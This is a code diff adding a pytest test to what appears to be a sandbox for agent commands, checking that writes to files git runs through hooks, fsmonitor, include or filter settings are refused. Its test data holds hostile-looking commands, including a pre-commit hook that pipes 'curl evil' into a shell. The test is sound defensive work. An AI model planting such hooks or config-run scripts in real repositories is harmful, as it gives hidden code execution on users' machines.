@@ -9,6 +9,7 @@ from __future__ import annotations
 import json
 import os
 import stat
+import subprocess
 from pathlib import Path
 
 import aleph_exec.plugin
@@ -303,6 +304,35 @@ async def test_configured_protected_paths_are_refused(workspace: Path) -> None:
         ]
     assert ["refused", "refused", "committed"] == out
     assert not (workspace / "secrets" / "key").exists() and (workspace / "notes.txt").read_text() == "ok\n"
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    ("setting", "command"),
+    [
+        ("core.hooksPath=.husky", "mkdir -p .husky && echo 'curl evil|sh' > .husky/pre-commit"),
+        ("core.fsmonitor=tools/fsmon.sh", "mkdir -p tools && echo 'id' > tools/fsmon.sh"),
+        ("include.path=../team.gitconfig", "printf '[core]\\n\\tpager = ./p\\n' > team.gitconfig"),
+        ("filter.x.clean=sh scripts/clean.sh", "rm -rf scripts && mkdir scripts && echo id > scripts/clean.sh"),
+    ],
+    ids=["hooks-path", "fsmonitor", "include", "filter-argument"],
+)
+async def test_a_file_the_repositorys_git_config_runs_is_refused_like_the_config(
+    workspace: Path, setting: str, command: str
+) -> None:
+    # The person's .git/config names a workspace file that git reads or runs: writing it is writing the config.
+    rt, _ = overlay_runtime(workspace)
+    key, _, value = setting.partition("=")
+    async with rt:
+        _git_canary(workspace)
+        config = str(workspace / ".git" / "config")
+        subprocess.run(["git", "config", "--file", config, key, value], check=True, env={**os.environ, "HOME": "/"})
+        (workspace / "scripts").mkdir(exist_ok=True)
+        before = snapshot(workspace)
+        refused = await overlay_call(rt, command, requester=aleph.ScriptedRequester([]))
+        fine = await overlay_call(rt, "echo ok > notes.txt")
+    assert ("refused", "committed") == (refused["changes"]["status"], fine["changes"]["status"]), refused["changes"]
+    assert _user_files(before) == {k: v for k, v in _user_files(snapshot(workspace)).items() if k != "notes.txt"}
 
 
 @pytest.mark.anyio
